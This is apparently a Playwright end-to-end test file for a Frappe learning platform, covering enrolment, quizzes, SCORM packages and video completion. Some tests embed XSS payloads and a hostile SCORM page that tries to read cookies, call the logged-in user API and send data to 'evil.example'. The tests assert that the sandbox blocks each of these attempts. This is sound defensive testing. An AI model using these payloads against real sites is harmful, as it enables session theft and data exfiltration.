"""A learner in a browser: a cohort, its course, reading, a quiz, a SCORM package, to the end."""

import json
import math
import re

import pytest
from playwright.sync_api import FrameLocator, Page, expect

import frappe

from smooth_lms.courses import enrollment
from tests.browser.conftest import PATIENCE, OpenPage, wait_for_row
from tests.support import factories
from tests.support.packages import build

expect.set_options(timeout=PATIENCE)

HOSTILE = (
	"<p>Hello</p><img src=x onerror=\"window.hurt='img'\"><svg onload=\"window.hurt='svg'\"></svg>"
	"<a href=\"javascript:window.hurt='link'\">press</a><script>window.hurt='script'</script>"
)
ATTACK = """<!DOCTYPE html><html><head></head><body><pre id="out"></pre><script>
const out = {};
const attempt = (name, act) => { try { out[name] = String(act()); } catch (error) { out[name] = error.name; } };
attempt("parent", () => parent.document.title);
attempt("top", () => top.document.title);
attempt("cookie", () => document.cookie);
if (top !== self) attempt("leave", () => { top.location = "https://evil.example/"; return "left"; });
const later = (name, promise) => promise.then(() => { out[name] = "worked"; }, () => { out[name] = "failed"; });
Promise.all([
  later("call", fetch("/api/method/frappe.auth.get_logged_user", { credentials: "include" })),
  later("leak", fetch("https://evil.example/?leak", { mode: "no-cors" })),
  later("own", fetch("data.json")),
]).then(() => { document.getElementById("out").textContent = JSON.stringify(out); });
</script></body></html>"""


UNKNOWN_LENGTH = 'Object.defineProperty(HTMLMediaElement.prototype, "duration", { get: () => Infinity });'


class School:
	"""A cohort whose course has a text, a quiz and a package, and a learner."""

	def __init__(self) -> None:
		self.learner = factories.make_user(first_name="Amira", last_name="Haddad").name
		self.course = factories.make_course(lessons=0, title=factories.unique("Fire safety")).name
		self.text = factories.make_lesson(
			self.course, title="Escape routes", body="<h2>Keep ways clear</h2><p>Read.</p>"
		).name
		self.quiz = factories.make_lesson(
			self.course, "Quiz", title="Check", quiz=factories.make_quiz(self.course).name
		).name
		package = build.make_package(self.course, build.package({"index.html": build.PAGE_12}))
		self.scorm = factories.make_lesson(
			self.course, "SCORM", title="Drill", scorm_package=package.name
		).name
		self.batch = factories.make_batch(courses=[self.course]).name
		frappe.db.commit()

	def address(self, lesson: str) -> str:
		return f"/lms/courses/{self.course}/{lesson}"

	def standing(self) -> tuple[str, int]:
		frappe.db.rollback()
		row = {"member": self.learner, "course": self.course}
		return frappe.db.get_value("LMS Enrollment", row, ["status", "progress"])


@pytest.fixture
def school() -> School:
	return School()


def reported(package: FrameLocator) -> dict:
	# one question to the browser: between two the next part could take the page's place
	return json.loads(package.locator("#out", has_text="init").inner_text())


def answer(page: Page, *options: str) -> None:
	for number, option in enumerate(options):
		page.locator("fieldset").nth(number).get_by_text(option, exact=True).click()
	page.get_by_role("button", name="Submit answers").click()


@pytest.mark.parametrize("script", [True, False], ids=["with script", "without script"])
def test_from_the_cohort_through_text_and_quiz(school, open_page: OpenPage, script):
	page = open_page(school.learner, f"/lms/batches/{school.batch}", java_script_enabled=script)
	page.get_by_role("button", name="Enroll").click()
	expect(page.locator("#main").get_by_text("You are enrolled")).to_be_visible()
	page.goto(f"/lms/courses/{school.course}")
	page.get_by_role("link", name="Start", exact=True).click()
	expect(page.get_by_role("heading", name="Escape routes")).to_be_visible()
	page.get_by_role("button", name="Done, next lesson").click()
	page.get_by_role("button", name="Start the quiz").click()
	page.get_by_role("button", name="Submit answers").click()
	expect(page.get_by_text("You have not answered any question yet. Nothing is submitted.")).to_be_visible()
	page.locator("fieldset").first.get_by_text("Right", exact=True).click()
	page.get_by_role("button", name="Submit without these answers").click()
	expect(page.get_by_text("Not passed yet")).to_be_visible()
	page.get_by_role("button", name="Try again").click()
	answer(page, "Right", "Wrong")
	expect(page.get_by_text("Not passed yet")).to_be_visible()
	page.get_by_role("button", name="Try again").click()
	answer(page, "Right", "Right")
	expect(page.get_by_role("heading", name="Passed")).to_be_visible()
	assert school.standing() == ("In Progress", 67)
	page.goto(f"/lms/courses/{school.course}")
	page.get_by_role("link", name="Go on").click()
	expect(page).to_have_url(re.compile(f"{school.scorm}$"))


def test_a_course_that_was_joined_can_be_left(school, open_page: OpenPage):
	page = open_page(school.learner, f"/lms/courses/{school.course}")
	page.get_by_role("button", name="Enroll").click()
	expect(page.locator("[data-notice]")).to_contain_text("You are enrolled.")
	page.get_by_role("link", name="Leave this course").click()
	page.get_by_role("button", name="Leave this course").click()
	expect(page.locator("[data-notice]")).to_contain_text("You have left this course.")
	expect(page.get_by_role("button", name="Enroll")).to_be_visible()


def test_a_quiz_keeps_what_was_answered_when_the_tab_is_closed(school, open_page: OpenPage):
	enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
	frappe.db.commit()
	page = open_page(school.learner, school.address(school.quiz))
	page.get_by_role("button", name="Start the quiz").click()
	page.locator("fieldset").first.get_by_text("Wrong").click()
	expect(page.get_by_text("All answers are saved.")).to_be_visible()
	page.close()
	again = open_page(school.learner, school.address(school.quiz))
	again.get_by_role("button", name="Go on with the quiz").click()
	expect(again.locator("fieldset").first.get_by_label("Wrong")).to_be_checked()


@pytest.mark.usefixtures("both_ways")
def test_a_package_goes_on_where_the_tab_was_closed_and_completes(school, open_page: OpenPage):
	enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
	frappe.db.commit()
	page = open_page(school.learner, school.address(school.scorm))
	package = page.frame_locator(".scorm__frame")
	assert reported(package)["entry"] == "ab-initio"
	assert reported(package)["name"] == "Amira Haddad"
	package.get_by_role("button", name="Half").click()
	page.close(run_before_unload=True)
	wait_for_row("LMS SCORM Run", {"member": school.learner, "bookmark": "slide-3"})
	page = open_page(school.learner, school.address(school.scorm))
	package = page.frame_locator(".scorm__frame")
	resumed = reported(package)
	assert (resumed["entry"], resumed["bookmark"]) == ("resume", "slide-3")
	assert resumed["data"] == "seen=1,2,3;note=ä & <b>"
	package.get_by_role("button", name="Finish").click()
	expect(page.get_by_text("You have completed this lesson.")).to_be_visible()
	assert school.standing() == ("In Progress", 33)
	score = frappe.db.get_value("LMS SCORM Run", {"lesson": school.scorm}, ["score", "success"])
	assert score == (85, "passed")


@pytest.mark.usefixtures("both_ways")
def test_a_package_of_scorm_2004_with_two_parts(school, open_page: OpenPage):
	files = {"index.html": build.PAGE_2004, "b/two.html": build.PAGE_2004}
	parts = (("A", "index.html"), ("B", "b/two.html"))
	made = build.make_package(school.course, build.package(files, version="2004", parts=parts))
	lesson = factories.make_lesson(school.course, "SCORM", scorm_package=made.name).name
	enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
	frappe.db.commit()
	page = open_page(school.learner, school.address(lesson))
	package = page.frame_locator(".scorm__frame")
	for part in ("A", "B"):
		page.get_by_role("link", name=f"Part {part}").click()
		assert reported(package)["init"] == "true"
		package.get_by_role("button", name="Finish").click()
		expect(page.locator("[data-study=parts] .mark--done")).to_have_count(1 if part == "A" else 2)
	expect(page.get_by_text("You have completed this lesson.")).to_be_visible()


class TestFilms:
	"""A recording that does not say how long it is, as many recorders leave it."""

	@pytest.fixture
	def page(self, school, open_page: OpenPage, film: bytes) -> Page:
		file = build.upload(film, f"{frappe.generate_hash(length=8)}.webm").file_url
		lesson = factories.make_lesson(school.course, "Video", video_file=file).name
		enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
		frappe.db.commit()
		page = open_page(school.learner, "/lms")
		page.context.add_init_script(UNKNOWN_LENGTH)
		page.goto(school.address(lesson))
		length = page.locator("video").evaluate(
			"""film => film.readyState ? film.duration : new Promise(resolve =>
				film.addEventListener("loadedmetadata", () => resolve(film.duration)))"""
		)
		assert length == math.inf
		return page

	def test_is_completed_by_being_watched(self, school, page: Page):
		page.locator("video").evaluate("film => { film.muted = true; return film.play(); }")
		expect(page.get_by_text("You have completed this lesson.")).to_be_visible()
		assert school.standing() == ("In Progress", 25)

	def test_has_no_other_way_where_only_watching_counts(self, school, page: Page):
		lesson = frappe.get_doc("Course Lesson", {"course": school.course, "lesson_type": "Video"})
		lesson.update({"only_by_watching": 1, "video_seconds": 2}).save()
		frappe.db.commit()
		page.reload()
		expect(page.get_by_text("completed by itself once you have watched 90 % of the film")).to_be_visible()
		assert page.get_by_role("button", name="Done").count() == 0
		form = {"csrf_token": page.locator("[data-lesson]").get_attribute("data-token")}
		assert page.request.post(page.url, form=form).status == 403
		page.locator("video").evaluate("film => { film.muted = true; return film.play(); }")
		expect(page.get_by_text("You have completed this lesson.")).to_be_visible()
		assert school.standing() == ("In Progress", 25)

	def test_is_not_completed_by_skipping_to_its_end(self, school, page: Page):
		ended = page.locator("video").evaluate(
			"""async film => {
				film.muted = true;
				await film.play();
				const ended = new Promise(resolve => film.addEventListener("ended", resolve));
				film.currentTime = 1.8;
				await ended;
				return film.ended;
			}"""
		)
		assert ended
		page.wait_for_load_state("networkidle")
		assert school.standing() == ("In Progress", 0)
		assert page.get_by_role("button", name="Done").is_visible()

	def test_what_counts_as_watched(self, page: Page):
		count = """([parts, from, before]) => import("portal/watched").then(({ watchedSeconds }) => watchedSeconds(
			{ length: parts.length, start: i => parts[i][0], end: i => parts[i][1] }, from, before))"""
		cases = [
			([], 0, 0, 0),
			([[0, 5], [8, 10]], 0, 0, 7),
			([[60, 90]], 60, 60, 90),  # the first minute was watched before
			([[60, 90]], 60, 10, 40),  # … or most of it skipped
			([[0, 60], [60, 90]], 60, 10, 90),  # watched again from the beginning
			([[20, 70]], 60, 60, 70),  # nothing twice
		]
		for parts, start, before, seconds in cases:
			assert page.evaluate(count, [parts, start, before]) == seconds, (parts, start, before)


def test_hostile_text_does_nothing(school, open_page: OpenPage):
	lesson = factories.make_lesson(school.course).name
	# as if it had come around the cleaning
	hostile = {"title": "<img src=x onerror=window.hurt='title'>", "body": HOSTILE}
	frappe.db.set_value("Course Lesson", lesson, hostile)
	enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
	frappe.db.commit()
	open_page.expected.append("Failed to load resource")  # the picture x
	page = open_page(school.learner, school.address(lesson))
	page.get_by_text("press").click()
	assert page.evaluate("window.hurt") is None
	page.goto(f"/lms/courses/{school.course}")
	assert page.evaluate("window.hurt") is None


def test_a_hostile_package_reaches_nothing(school, open_page: OpenPage, browser):
	made = build.make_package(school.course, build.package({"index.html": ATTACK, "data.json": "{}"}))
	lesson = factories.make_lesson(school.course, "SCORM", scorm_package=made.name).name
	enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
	frappe.db.commit()
	open_page.expected.append("")  # every refusal is an error in the console
	page = open_page(school.learner, school.address(lesson))
	out = page.frame_locator(".scorm__frame").locator("#out")
	expect(out).to_contain_text("call")
	found = json.loads(out.inner_text())
	assert found["own"] == "worked"
	assert (found["call"], found["leak"]) == ("failed", "failed")
	assert found["top"] == found["leave"] == "SecurityError"
	assert "title" not in found["parent"]
	assert found["cookie"] == ""
	assert school.address(lesson) in page.url
	# the same page in a tab of its own is as powerless
	alone = page.context.new_page()
	alone.goto(page.locator(".scorm__frame").get_attribute("src"))
	expect(alone.locator("#out")).to_contain_text("call")
	opened = json.loads(alone.locator("#out").inner_text())
	assert (opened["call"], opened["cookie"]) == ("failed", "")


FRAMES = {
	"index.html": build.PAGE_12.replace("</body>", '<iframe src="inner.html"></iframe></body>'),
	"inner.html": """<!DOCTYPE html><html><head></head><body><p id="inner"></p><script>
	parent.localStorage.setItem("from", "inner");
	setInterval(() => { document.getElementById("inner").textContent = parent.API.LMSGetValue("cmi.core.student_name"); }, 100);
	</script></body></html>""",
}


def test_frames_of_a_package_talk_to_each_other_on_a_host_of_its_own(school, open_page: OpenPage, own_host):
	made = build.make_package(school.course, build.package(FRAMES))
	lesson = factories.make_lesson(school.course, "SCORM", scorm_package=made.name).name
	enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
	frappe.db.commit()
	page = open_page(school.learner, school.address(lesson))
	assert page.locator(".scorm__frame").get_attribute("src").startswith(own_host)
	package = page.frame_locator(".scorm__frame")
	assert reported(package)["name"] == "Amira Haddad"
	expect(package.frame_locator("iframe").locator("#inner")).to_have_text("Amira Haddad")
	package.get_by_role("button", name="Finish").click()
	expect(page.get_by_text("You have completed this lesson.")).to_be_visible()
	for path in ("/lms", "/app", "/api/method/ping", "/login"):
		assert page.request.get(own_host + path, max_redirects=0).status == 404


PAGES = {
	"index.html": build.PAGE_12.replace(
		"</body>",
		'<iframe id="way" src="a/index.html?x=1#there"></iframe><iframe id="drawing" src="a.svg"></iframe></body>',
	),
	"a/index.html": """<!DOCTYPE html><html><head></head><body><p id="text">folder</p><a href="../both.html">page</a>
		<script src="beside.js"></script></body></html>""",
	"a/beside.js": """document.getElementById("text").textContent = location.pathname.split("/").slice(3).join("/")
		+ location.search + location.hash;
		fetch("index.html").then(answer => answer.text()).then(text => { window.own = text.includes("folder"); });""",
	"both.html": '<html><head></head><body><p id="text">the page</p><a href="both/index.html">folder</a></body></html>',
	"both/index.html": '<html><head></head><body><p id="text">the folder</p></body></html>',
	"a.svg": """<svg xmlns="http://www.w3.org/2000/svg"><script>
		fetch("/api/method/frappe.auth.get_logged_user").then(answer => answer.text())
			.then(text => { document.documentElement.setAttribute("data-leak", text); },
				() => { document.documentElement.setAttribute("data-leak", "refused"); });
		</script><text y="20">drawn</text></svg>""",
}


@pytest.mark.usefixtures("both_ways")
def test_pages_of_a_package_find_each_other_in_frames(school, open_page: OpenPage):
	"""Names with .html, folders, a query, frames without an origin, and a drawing that runs scripts."""
	made = build.make_package(school.course, build.package(PAGES))
	lesson = factories.make_lesson(school.course, "SCORM", scorm_package=made.name).name
	enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
	frappe.db.commit()
	open_page.expected.append("")  # what the drawing tries is an error in the console
	page = open_page(school.learner, school.address(lesson))
	package = page.frame_locator(".scorm__frame")
	assert reported(package)["name"] == "Amira Haddad"
	way = package.frame_locator("#way")
	expect(way.locator("#text")).to_have_text("a/index.html?x=1#there")
	assert way.locator("#text").evaluate(
		"() => new Promise(done => setInterval(() => 'own' in window && done(own), 50))"
	)
	way.get_by_role("link").click()
	expect(way.locator("#text")).to_have_text("the page")
	way.get_by_role("link").click()
	expect(way.locator("#text")).to_have_text("the folder")
	drawing = package.frame_locator("#drawing").locator("svg")
	expect(drawing).to_have_attribute("data-leak", "refused")
	# nor in a tab of its own
	alone = page.context.new_page()
	base = page.locator(".scorm__frame").get_attribute("src").rpartition("/")[0]
	alone.goto(base + "/a.svg")
	expect(alone.locator("svg")).to_have_attribute("data-leak", "refused")


def test_lessons_are_read_by_everybody(school, open_page: OpenPage, violations):
	enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
	frappe.db.commit()
	page = open_page(school.learner, "/lms/courses")
	assert violations(page) == []
	for address in (
		f"/lms/courses/{school.course}",
		school.address(school.text),
		school.address(school.quiz),
	):
		page.goto(address)
		assert violations(page) == []
	page.get_by_role("button", name="Start the quiz").click()
	page.wait_for_selector("fieldset")
	assert violations(page) == []
	answer(page, "Right", "Wrong")
	page.wait_for_selector(".verdict")
	assert violations(page) == []


@pytest.mark.parametrize("width", [320, 1366])
def test_nothing_is_wider_than_the_screen(school, open_page: OpenPage, width):
	enrollment.enroll({school.learner: "Amira Haddad"}, [school.course])
	frappe.db.commit()
	page = open_page(school.learner, "/lms/courses", width=width, color_scheme="dark")
	for address in (
		"/lms/courses",
		f"/lms/courses/{school.course}",
		school.address(school.text),
		school.address(school.quiz),
		school.address(school.scorm),
	):
		page.goto(address)
		assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), address
